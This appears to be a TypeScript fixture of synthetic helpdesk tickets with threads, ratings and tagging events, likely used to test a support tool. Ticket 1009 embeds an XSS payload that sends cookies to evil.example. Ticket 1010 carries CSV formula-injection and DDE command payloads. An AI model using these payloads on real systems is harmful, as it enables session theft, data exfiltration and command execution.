import type { TicketSpec } from './build-ticket';
import { G, U } from './ids';

const SIG_TOM = '\n\n-- \nTom Harris\nCTO, Northwind Logistics\n+44 20 7946 0958\nThis e-mail and any attachments are confidential.';

export const englishTickets: TicketSpec[] = [
  {
    id: 1001, subject: 'Charged twice for the November invoice', requester: U.olivia, assignee: U.priya, group: G.billing,
    status: 'solved', priority: 'high', type: 'incident', channel: 'email', created: '2026-11-02T09:14:00Z', area: 'area_billing',
    rating: { score: 'good', comment: 'Priya sorted it in one reply. Thank you!', id: 9100001 },
    thread: [
      { by: U.olivia, at: 0, text: 'Hi, my card was charged twice for invoice INV-20931 ($249 each). Can you refund the duplicate?\n\nThanks,\nOlivia' },
      { by: U.priya, at: 35, text: 'Internal: confirmed duplicate capture in Stripe, both succeeded 09:02 and 09:03 UTC.', isPublic: false },
      { by: U.priya, at: 42, text: 'Hi Olivia, you are right, and I am sorry about that. I have refunded the second $249 charge; it will be back on your card within 5–10 business days. I also checked that your December renewal will only be charged once.\n\nPriya' },
      { by: U.olivia, at: 120, text: 'Perfect, thank you for checking December too!' },
    ],
    tagEvents: [{ op: 'add', e: 'ev-1001-a', tag: 'vc_own_the_outcome', by: U.priya, at: 125, reply: 2, note: 'Refunded and checked the next renewal without being asked.' }],
  },
  {
    id: 1002, subject: 'CSV export drops rows that contain accented names', requester: U.amara, assignee: U.jordan, group: G.engineering,
    status: 'open', priority: 'high', type: 'problem', channel: 'web', created: '2026-11-16T14:05:00Z', area: 'area_integrations',
    thread: [
      { by: U.amara, at: 0, text: 'When I export contacts to CSV, every row with an accented name (José, Zoë, Müller) is missing. 212 contacts in the app, 187 in the file.' },
      { by: U.jordan, at: 50, text: 'Thanks Amara — I can reproduce this with "Zoë". Could you tell me which browser you export from, and whether you open the file in Excel or Google Sheets?' },
      { by: U.amara, at: 95, text: 'Chrome on Windows, opening in Excel. Same with Sheets though.' },
      { by: U.jordan, at: 130, text: 'Escalated to engineering as BUG-4471; encoding issue in the export worker. Workaround: JSON export keeps all rows.', isPublic: false },
    ],
  },
  {
    id: 1003, subject: 'How do I add a teammate to our workspace?', requester: U.amara, assignee: U.marco, group: G.support,
    status: 'solved', priority: 'low', type: 'question', channel: 'chat', created: '2026-10-20T11:00:00Z', area: 'area_account',
    rating: { score: 'good', comment: 'Super quick, thanks! 🙌', id: 9100002 },
    thread: [
      { by: U.amara, at: 0, text: 'hey! how do I add my colleague to our workspace?' },
      { by: U.marco, at: 2, text: 'Hi Amara! Settings → Team → "Invite people", enter their email and pick a role. Tip: "Member" is enough unless they manage billing. Here is the guide for next time: https://help.example.test/invite' },
      { by: U.amara, at: 6, text: 'done, she got the email. thanks!!' },
    ],
    tagEvents: [
      { op: 'add', e: 'ev-1003-a', tag: 'vc_make_it_effortless', by: U.marco, at: 10, reply: 1, note: 'Linked the guide so she can do it herself next time.' },
      { op: 'add', e: 'ev-1003-b', tag: 'vc_say_it_plainly', by: U.priya, at: 300, reply: 1, note: '' },
    ],
  },
  {
    id: 1004, subject: 'URGENT: dashboard not loading for our whole team', requester: U.tom, assignee: U.sam, group: G.engineering,
    status: 'solved', priority: 'urgent', type: 'incident', channel: 'email', created: '2026-11-12T07:41:00Z',
    rating: { score: 'bad', comment: 'Took three hours to hear anything back during an outage.', id: 9100003 },
    tags: ['outage_2026_11_12'],
    thread: [
      { by: U.tom, at: 0, text: `Nobody on our team (40 people) can load the dashboard since 07:30. Spinner forever. This is blocking our dispatch operations.${SIG_TOM}` },
      { by: U.jordan, at: 175, text: 'Linked to incident INC-311 (CDN misconfiguration). Status page updated.', isPublic: false },
      { by: U.sam, at: 181, text: 'Tom, I am sorry for the wait and the disruption. A CDN configuration change at 07:25 broke asset loading for EU accounts. We rolled it back at 10:38 and added a check so the same change cannot ship without an EU canary. Please hard-refresh; it should load now.' },
      { by: U.tom, at: 200, text: `Working again. Please make sure we hear from you faster next time.\n\nOn Thu, Nov 12, 2026 at 10:42 AM Sam Okafor <support@acme-support.test> wrote:\n> Tom, I am sorry for the wait and the disruption.\n> A CDN configuration change at 07:25 broke asset loading${SIG_TOM}` },
    ],
    tagEvents: [
      { op: 'add', e: 'ev-1004-a', tag: 'vc_lead_with_empathy', by: U.priya, at: 240, reply: 2, note: '' },
      { op: 'remove', e: 'ev-1004-b', tag: 'vc_lead_with_empathy', by: U.priya, at: 245, ref: 'ev-1004-a' },
      { op: 'add', e: 'ev-1004-c', tag: 'vc_learn_out_loud', by: U.priya, at: 246, reply: 2, note: 'Explained the cause and the guard that prevents a repeat.' },
    ],
  },
  {
    id: 1005, subject: 'Someone logged into my account from another country', requester: U.tom, assignee: U.priya, group: G.support,
    status: 'pending', priority: 'urgent', type: 'incident', channel: 'web', created: '2026-11-20T22:10:00Z', area: 'area_account',
    thread: [
      { by: U.tom, at: 0, text: 'I got a "new sign-in from São Paulo" email. I have never been to Brazil. Please lock my account NOW.' },
      { by: U.priya, at: 9, text: 'Session revoked, password reset forced, 2FA prompt enabled. Sign-in came from a known credential-stuffing ASN.', isPublic: false },
      { by: U.priya, at: 12, text: 'Tom, I have signed out every session and required a new password. Please reset it using the link we just emailed and turn on two-factor authentication under Security. Could you confirm once done?' },
    ],
  },
  {
    id: 1006, subject: 'Package stuck in customs for two weeks', requester: U.fatima, assignee: U.hana, group: G.support,
    status: 'open', priority: 'normal', type: 'question', channel: 'email', created: '2026-11-06T08:30:00Z', area: 'area_shipping',
    thread: [
      { by: U.fatima, at: 0, text: 'Bonjour, my order #88412 has said "held at customs" since 23 October. Is there a form I must fill?' },
      { by: U.hana, at: 240, text: 'Hi Fatima, customs asked for the invoice. I have sent it to the carrier today and will check the tracking again on Monday.' },
      { by: U.fatima, at: 7200, text: 'Still held... can you check again please?' },
    ],
  },
  {
    id: 1007, subject: 'Feature request: dark mode for the mobile app 🌙', requester: U.amara, assignee: U.jordan, group: G.support,
    status: 'closed', priority: 'low', type: 'task', channel: 'web', created: '2026-10-12T16:20:00Z', area: 'area_mobile',
    rating: { score: 'offered' },
    thread: [
      { by: U.amara, at: 0, text: 'Please add dark mode to the iOS app, my eyes at night 😵‍💫' },
      { by: U.jordan, at: 60, text: 'I totally get it — late-night admin work is rough on the eyes. I have added your vote to the dark mode request, and I will let you know when it ships.' },
    ],
    tagEvents: [{ op: 'add', e: 'ev-1007-a', tag: 'vc_lead_with_empathy', by: U.marco, at: 90, reply: 1, note: 'Acknowledged the real problem, not just the request.' }],
  },
  {
    id: 1009, subject: 'Your emails break our signature formatting', requester: U.olivia, assignee: U.jordan, group: G.support,
    status: 'open', priority: 'normal', type: 'problem', channel: 'email', created: '2026-11-18T10:00:00Z',
    thread: [
      {
        by: U.olivia, at: 0, text: '',
        html: '<div>Hi team,<br>our signature renders like this in your replies:<br><img src="x" onerror="alert(\'xss\')"><script>document.location=\'https://evil.example/?c=\'+document.cookie</script><a href="javascript:alert(1)">click here</a><br><b>Olivia</b> | <i>BrightPath</i></div>',
      },
      { by: U.jordan, at: 80, text: 'Hi Olivia, thanks — could you forward one of the affected emails as an attachment (.eml) so we can see the raw HTML?' },
    ],
  },
  {
    id: 1010, subject: '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for refund")', requester: U.mateo, assignee: null, group: G.billing,
    status: 'new', priority: null, type: null, channel: 'web', created: '2026-11-21T18:45:00Z',
    thread: [{ by: U.mateo, at: 0, text: '+SUM(1+1)*cmd|\' /C calc\'!A0\n@import refund request' }],
  },
  {
    id: 1014, subject: 'Re: Re: API rate limit questions', requester: U.tom, assignee: U.priya, group: G.support,
    status: 'solved', priority: 'normal', type: 'question', channel: 'email', created: '2026-10-27T13:00:00Z', area: 'area_integrations',
    rating: { score: 'unoffered' },
    thread: [
      { by: U.tom, at: 0, text: `What is the rate limit on the orders API, and does it apply per token or per account?${SIG_TOM}` },
      { by: U.priya, at: 45, text: 'Hi Tom, it is 400 requests per minute per account. Watch the X-Rate-Limit-Remaining header and back off on 429 using Retry-After. Our guide shows a small retry helper: https://developer.example.test/rate-limits' },
      { by: U.tom, at: 300, text: `Thanks. Does the bulk endpoint count as one request?\n\nOn Tue, Oct 27, 2026 at 1:45 PM Priya Raman <support@acme-support.test> wrote:\n> Hi Tom, it is 400 requests per minute per account.\n> Watch the X-Rate-Limit-Remaining header and back off on 429\n>\n> On Tue, Oct 27, 2026 at 1:00 PM Tom Harris wrote:\n>> What is the rate limit on the orders API${SIG_TOM}` },
      { by: U.priya, at: 330, text: 'Yes — one bulk call with up to 100 orders counts as a single request, so batching is the easiest way to stay under the limit.' },
    ],
    tagEvents: [{ op: 'add', e: 'ev-1014-a', tag: 'vc_make_it_effortless', by: U.marco, at: 400, reply: 1, note: 'Taught the header and backoff pattern, with the guide.' }],
  },
  {
    id: 1015, subject: 'App keeps crashing 😭😭 please help', requester: U.amara, assignee: null, group: G.support,
    status: 'new', priority: 'high', type: 'incident', channel: 'chat', created: '2026-11-21T20:02:00Z', area: 'area_mobile',
    thread: [
      { by: U.amara, at: 0, text: 'every time I open the camera upload the app crashes 💥📱 iPhone 15, iOS 19.1. tried reinstalling 🙃' },
      { by: U.amara, at: 3, text: 'hello?? 👀' },
    ],
  },
  {
    id: 1016, subject: 'Upgrade to annual plan — do we get a prorated credit?', requester: U.olivia, assignee: U.marco, group: G.billing,
    status: 'closed', priority: 'normal', type: 'question', channel: 'email', created: '2026-10-14T09:00:00Z', area: 'area_billing',
    rating: { score: 'good', comment: 'Clear answer.', id: 9100004 },
    thread: [
      { by: U.olivia, at: 0, text: 'If we switch from monthly to annual mid-cycle, is the rest of this month credited?' },
      { by: U.marco, at: 30, text: 'Yes: the unused part of this month is credited automatically against the annual invoice. You will see it as a separate line.' },
    ],
  },
  {
    id: 1017, subject: 'SSO setup with Okta fails with "invalid audience"', requester: U.tom, assignee: U.sam, group: G.engineering,
    status: 'hold', priority: 'high', type: 'problem', channel: 'email', created: '2026-11-10T15:30:00Z', area: 'area_integrations',
    thread: [
      { by: U.tom, at: 0, text: `Okta says "invalid audience" when we test SAML. Entity ID is https://northwind.example.test/saml.${SIG_TOM}` },
      { by: U.sam, at: 60, text: 'The audience must be our SP entity ID, https://app.example.test/saml/metadata, not yours. Could you update it in Okta and try again?' },
      { by: U.sam, at: 70, text: 'On hold until Tom\'s IT team is back from the offsite (Nov 24).', isPublic: false },
    ],
  },
  {
    id: 1018, subject: 'Notifications arrive twice on Android', requester: U.amara, assignee: U.jordan, group: G.support,
    status: 'solved', priority: 'normal', type: 'problem', channel: 'web', created: '2026-10-29T12:00:00Z', area: 'area_mobile',
    rating: { score: 'good', id: 9100005, comment: null },
    thread: [
      { by: U.amara, at: 0, text: 'Each push notification shows up twice on my Pixel.' },
      { by: U.jordan, at: 40, text: 'Found it: after the last update the app registered two push tokens for your device. I removed the stale one and filed a fix so the app drops old tokens on upgrade. You should only get one notification now.' },
      { by: U.amara, at: 200, text: 'Confirmed, only one now 👍' },
    ],
    tagEvents: [
      { op: 'add', e: 'ev-1018-a', tag: 'vc_learn_out_loud', by: U.sam, at: 210, reply: 1, note: 'Found the duplicate token and filed the upgrade fix.' },
      { op: 'add', e: 'ev-1018-b', tag: 'vc_own_the_outcome', by: U.sam, at: 211, reply: 1, note: '' },
    ],
  },
  {
    id: 1019, subject: 'Post-incident report for the Nov 12 outage', requester: U.tom, assignee: U.sam, group: G.engineering,
    status: 'open', priority: 'normal', type: 'task', channel: 'email', created: '2026-11-13T09:00:00Z',
    tags: ['outage_2026_11_12'],
    thread: [
      { by: U.tom, at: 0, text: `Our compliance team needs a written post-incident report for the 12 November outage.${SIG_TOM}` },
      { by: U.sam, at: 90, text: 'Drafting the RCA with SRE; due Friday.', isPublic: false },
    ],
  },
  {
    id: 1020, subject: 'Please delete my account and all my data (GDPR)', requester: U.fatima, assignee: U.priya, group: G.support,
    status: 'solved', priority: 'normal', type: 'task', channel: 'email', created: '2026-10-16T10:00:00Z', area: 'area_account',
    rating: { score: 'bad', comment: 'Why so many verification steps just to delete an account?', id: 9100006 },
    thread: [
      { by: U.fatima, at: 0, text: 'Under GDPR article 17, please erase my account fatima.z@boite.test and all associated data.' },
      { by: U.priya, at: 60, text: 'Hi Fatima, we will. To protect you, we need to confirm the request comes from you: please click the confirmation link we just sent.' },
      { by: U.fatima, at: 1440, text: 'Done.' },
      { by: U.priya, at: 1500, text: 'Your account and data have been erased; backups expire within 30 days. Sorry the extra step was frustrating.' },
    ],
  },
];
